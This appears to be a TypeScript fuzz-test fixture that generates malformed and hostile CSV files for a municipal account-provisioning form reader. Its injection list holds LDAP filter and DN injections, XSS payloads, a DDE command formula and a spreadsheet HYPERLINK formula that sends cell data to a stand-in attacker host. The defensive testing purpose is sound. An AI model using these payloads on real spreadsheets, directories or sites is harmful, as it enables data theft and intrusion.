/**
 * Hostile form files, generated deterministically from a seed: random bytes, truncations, NUL bytes,
 * invalid UTF-8, mixed delimiters, UTF-16, quote storms, header abuse, mutations of a valid form, values
 * that try to inject into DNs, filters, spreadsheets and HTML, and a few giants (a 10 MB field, a million
 * empty lines, more rows or bytes than the caps).
 */
import { generateValidCpf } from '../../../src/core/cpf.js';
import { prng } from '../../support/prng.js';

export interface HostileCase {
  kind: string;
  note: string;
  bytes: Uint8Array;
  /** What the reader must do, when it is known exactly: refuse the file, or keep rows but reject them. */
  expect?: 'input-error' | 'rows-rejected' | 'no-people';
}


const HEADERS = ['Município', 'Órgão', 'Nome', 'CPF', 'E-mail', 'Cargo', 'Perfil', 'Ação'];
const NAMES = ['Ana Conceição', 'José da Silva', 'Maria D\'Ávila', 'João Souza-Lima', 'Iracema Gonçalves', 'Pedro Álvares'];

/** Values that try to change a DN, a filter, a spreadsheet formula or HTML. */
export const INJECTIONS = [
  '*)(objectClass=*',
  '*',
  ')(|(cn=*',
  ',OU=Domain Controllers',
  'x,OU=Domain Controllers,DC=sei,DC=local',
  '\\',
  '\\,OU=Domain Controllers',
  '#',
  '#Nome',
  '+',
  'a+b',
  'CN=Administrator,CN=Users,DC=sei,DC=local',
  '=HYPERLINK("http://evil.example/?x="&A1,"clique")',
  '=cmd|\' /C calc\'!A0',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1:A2)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;b&gt;',
  '\u001b[31mvermelho\u001b[0m',
  '\u202egnp.exe',
];

export function formText(rand: () => number, rows: number, sep = ';', eol = '\r\n', extra: (i: number) => Partial<Record<number, string>> = () => ({})): string {
  const quote = (v: string) => (v.includes(sep) || /["\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  const lines = [HEADERS.join(sep)];
  for (let i = 0; i < rows; i++) {
    const cpf = generateValidCpf(900_000 + Math.floor(rand() * 1_000_000));
    const cells = ['Sorocaba', 'PMS', NAMES[i % NAMES.length]!, rand() < 0.5 ? cpf : `${cpf.slice(0, 3)}.${cpf.slice(3, 6)}.${cpf.slice(6, 9)}-${cpf.slice(9)}`, `p${i}@sorocaba.sp.gov.br`, 'Agente', 'usuario', 'incluir'];
    for (const [k, v] of Object.entries(extra(i))) cells[Number(k)] = v ?? '';
    lines.push(cells.map(quote).join(sep));
  }
  return lines.join(eol) + eol;
}

const utf8 = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const latin1 = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const BOM = new Uint8Array([0xef, 0xbb, 0xbf]);

function randomBytes(rand: () => number, n: number): Uint8Array {
  const b = new Uint8Array(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rand() * 256);
  return b;
}

function pick<T>(rand: () => number, list: readonly T[]): T {
  return list[Math.floor(rand() * list.length)]!;
}

function insertAt(bytes: Uint8Array, at: number, what: Uint8Array): Uint8Array {
  return concat(bytes.subarray(0, at), what, bytes.subarray(at));
}

const INVALID_UTF8 = [[0xc3], [0xff], [0xfe, 0xfe], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xe2, 0x82], [0x80], [0xf0, 0x9f, 0x98]];

export function* hostileCases(seed: number): Generator<HostileCase> {
  const rand = prng(seed);

  for (let k = 0; k < 200; k++) {
    const n = k < 20 ? k : Math.floor(rand() * (k % 10 === 0 ? 65_536 : 4096));
    yield { kind: 'random-bytes', note: `${n} random bytes`, bytes: randomBytes(rand, n) };
  }

  for (let k = 0; k < 100; k++) {
    const alphabet = ';,\t"\r\n =+-@#\\*()aAçÇ0123456789';
    const n = 1 + Math.floor(rand() * 3000);
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
    const text = rand() < 0.5 ? `${HEADERS.join(';')}\r\n${s}` : s;
    yield { kind: 'random-text', note: `${n} characters of CSV punctuation`, bytes: utf8(text) };
  }

  for (let k = 0; k < 200; k++) {
    const sep = pick(rand, [';', ',']);
    const full = rand() < 0.3 ? latin1(formText(rand, 15, sep)) : concat(rand() < 0.5 ? BOM : new Uint8Array(), utf8(formText(rand, 15, sep, pick(rand, ['\r\n', '\n']), (i) => (i === 3 ? { 2: 'Nome "com aspas"\nem duas linhas' } : {}))));
    const cut = Math.floor(rand() * full.length);
    yield { kind: 'truncated', note: `cut at byte ${cut} of ${full.length}`, bytes: full.subarray(0, cut) };
  }

  for (let k = 0; k < 80; k++) {
    let b: Uint8Array = utf8(formText(rand, 10));
    const count = 1 + Math.floor(rand() * 5);
    for (let j = 0; j < count; j++) b = insertAt(b, Math.floor(rand() * b.length), new Uint8Array([0]));
    yield { kind: 'nul-bytes', note: `${count} NUL bytes inserted`, bytes: b, expect: 'input-error' };
  }

  for (let k = 0; k < 100; k++) {
    let b: Uint8Array = utf8(formText(rand, 10));
    const count = 1 + Math.floor(rand() * 4);
    for (let j = 0; j < count; j++) b = insertAt(b, Math.floor(rand() * b.length), new Uint8Array(pick(rand, INVALID_UTF8)));
    yield { kind: 'invalid-utf8', note: `${count} invalid sequences${k % 2 ? ' after a BOM' : ''}`, bytes: k % 2 ? concat(BOM, b) : b };
  }

  for (let k = 0; k < 100; k++) {
    const seps = [';', ',', '\t', '|'];
    const rows = formText(rand, 10, ';').split('\r\n').filter(Boolean);
    const mixed = rows.map((line, i) => (i === 0 && k % 3 === 0 ? line : line.split(';').join(pick(rand, seps))));
    const pre = k % 4 === 0 ? [`sep=${pick(rand, [...seps, '', 'xx'])}`] : [];
    yield { kind: 'mixed-delimiters', note: pre[0] ?? 'per-line delimiters', bytes: utf8([...pre, ...mixed].join(pick(rand, ['\r\n', '\n', '\r']))) };
  }

  for (let k = 0; k < 200; k++) {
    const b = Buffer.from(utf8(formText(rand, 12, pick(rand, [';', ',']))));
    const edits = 1 + Math.floor(rand() * 8);
    let out = b;
    for (let j = 0; j < edits; j++) {
      const at = Math.floor(rand() * out.length);
      const op = Math.floor(rand() * 6);
      if (op === 0) out[at] = Math.floor(rand() * 256);
      else if (op === 1) out = Buffer.concat([out.subarray(0, at), Buffer.from('"'), out.subarray(at)]);
      else if (op === 2) out = Buffer.concat([out.subarray(0, at), out.subarray(at + 1 + Math.floor(rand() * 20))]);
      else if (op === 3) out = Buffer.concat([out.subarray(0, at), Buffer.from(pick(rand, ['\r', '\n', '\r\n', ';', ',', '""', '"\r\n"'])), out.subarray(at)]);
      else if (op === 4) out = Buffer.concat([out, out.subarray(at, Math.min(out.length, at + 200))]);
      else out = Buffer.concat([out.subarray(0, at), Buffer.from(pick(rand, INJECTIONS)), out.subarray(at)]);
    }
    yield { kind: 'mutated', note: `${edits} random edits of a valid form`, bytes: new Uint8Array(out) };
  }

  for (let k = 0; k < 50; k++) {
    const text = formText(rand, 8, k % 2 ? ',' : ';');
    const le = Buffer.from(text, 'utf16le');
    const be = Buffer.from(le).swap16();
    const variants = [
      Buffer.concat([Buffer.from([0xff, 0xfe]), le]),
      Buffer.concat([Buffer.from([0xfe, 0xff]), be]),
      le,
      Buffer.concat([Buffer.from([0xff, 0xfe]), le.subarray(0, le.length - 1)]),
      Buffer.concat([Buffer.from([0xff, 0xfe]), le.subarray(0, Math.floor(rand() * le.length))]),
    ];
    yield { kind: 'utf16', note: ['LE with BOM', 'BE with BOM', 'LE without BOM', 'odd length', 'truncated'][k % 5]!, bytes: new Uint8Array(variants[k % 5]!) };
  }

  const quoteCases = [
    `${HEADERS.join(';')}\r\n"Sorocaba;PMS;Ana;52998224725;a@b.com\r\n`,
    `${HEADERS.join(';')}\r\nSorocaba;PMS;"Ana"x"y;52998224725;a@b.com\r\n`,
    `${HEADERS.join(';')}\r\n${'"'.repeat(10_001)}\r\n`,
    `${HEADERS.join(';')}\r\n"${'""'.repeat(50_000)}";PMS;Ana;52998224725;a@b.com\r\n`,
    `"${HEADERS.join('";"')}\r\n`,
    `${HEADERS.join(';')}\r\nSo"ro"caba;PMS;Ana;52998224725;a@b.com\r\n`,
    `${HEADERS.join(';')}\r\n"";"";"";"";""\r\n`,
    `${HEADERS.join(';')}\r\n"a""b""c"d"e;PMS;Ana;52998224725;a@b.com\r\n`,
  ];
  for (let k = 0; k < 30; k++) yield { kind: 'quotes', note: `quote abuse ${k % quoteCases.length}`, bytes: utf8(quoteCases[k % quoteCases.length]!) };

  const headerCases: [string, HostileCase['expect']][] = [
    ['', 'no-people'],
    ['\ufeff', 'no-people'],
    ['   \r\n\t\r\n  ', 'no-people'],
    ['sep=;', 'no-people'],
    ['sep=;\r\n', 'no-people'],
    [`${HEADERS.join(';')}`, 'no-people'],
    [`${HEADERS.join(';')};CPF;CPF;Nome\r\nSorocaba;PMS;Ana;52998224725;a@b.com;x;y;z;1;2;3\r\n`, undefined],
    [`${Array.from({ length: 301 }, (_, i) => `c${i}`).join(';')}\r\n`, 'input-error'],
    [`Nome;E-mail\r\nAna;a@b.com\r\n`, 'input-error'],
    [`a;b;c\r\n1;2;3\r\n`, 'input-error'],
    [`${HEADERS.map((h) => h.toUpperCase()).join(';')}\r\nSorocaba;PMS;Ana Silva;52998224725;a@b.com\r\n`, undefined],
    [`${HEADERS.join(';')}\r\n${';'.repeat(5000)}\r\n`, 'no-people'],
  ];
  for (let k = 0; k < 40; k++) {
    const [text, expect] = headerCases[k % headerCases.length]!;
    yield { kind: 'header', note: `header case ${k % headerCases.length}`, bytes: utf8(text), ...(expect ? { expect } : {}) };
  }

  for (let k = 0; k < 60; k++) {
    const value = INJECTIONS[k % INJECTIONS.length]!;
    const column = [0, 2, 5, 4, 1, 6, 7, 3][Math.floor(k / INJECTIONS.length) % 8]!;
    yield { kind: 'injection', note: `${HEADERS[column]} = ${JSON.stringify(value)}`, bytes: utf8(formText(rand, 3, ';', '\r\n', () => ({ [column]: value }))) };
  }

  // Giants: each bounded by a cap or by linear work.
  const header = `${HEADERS.join(';')}\r\n`;
  const tenMb = 10 * 1_048_576;
  yield { kind: 'giant', note: '10 MB unquoted field', bytes: utf8(`${header}Sorocaba;PMS;${'A'.repeat(tenMb)};52998224725;a@b.com\r\n`), expect: 'rows-rejected' };
  yield { kind: 'giant', note: '10 MB quoted field with line breaks', bytes: utf8(`${header}Sorocaba;PMS;"${'Nome\r\n'.repeat(tenMb / 6)}";52998224725;a@b.com\r\n`), expect: 'rows-rejected' };
  yield { kind: 'giant', note: '10 MB of doubled quotes in one field', bytes: utf8(`${header}Sorocaba;PMS;"${'""'.repeat(tenMb / 2)}";52998224725;a@b.com\r\n`), expect: 'rows-rejected' };
  yield { kind: 'giant', note: 'a million empty lines (LF)', bytes: utf8('\n'.repeat(1_000_000)), expect: 'no-people' };
  yield { kind: 'giant', note: 'header then a million empty lines (CRLF)', bytes: utf8(header + '\r\n'.repeat(1_000_000)), expect: 'no-people' };
  yield { kind: 'giant', note: 'a million lines of empty cells', bytes: utf8(header + ';;;;;;;\r\n'.repeat(1_000_000)), expect: 'no-people' };
  yield { kind: 'giant', note: 'a million delimiters on one line', bytes: utf8(header + ';'.repeat(1_000_000) + '\r\n'), expect: 'no-people' };
  yield { kind: 'giant', note: 'a header of 100,000 columns', bytes: utf8(`${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(';')}\r\n`), expect: 'input-error' };
  yield { kind: 'giant', note: '10 MB without a line break or delimiter', bytes: utf8('x'.repeat(tenMb)), expect: 'input-error' };
  yield { kind: 'giant', note: 'a million lines inside one open quote', bytes: utf8(`${header}"${'\n'.repeat(1_000_000)}`), expect: 'input-error' };
  const row = 'Sorocaba;PMS;Ana Silva;52998224725;ana@sorocaba.sp.gov.br\r\n';
  yield { kind: 'giant', note: '500,001 data rows (over the cap)', bytes: utf8(header + row.repeat(500_001)), expect: 'input-error' };
  yield { kind: 'giant', note: '100 MB + 1 byte (over the cap)', bytes: new Uint8Array(100 * 1_048_576 + 1).fill(0x41), expect: 'input-error' };
}
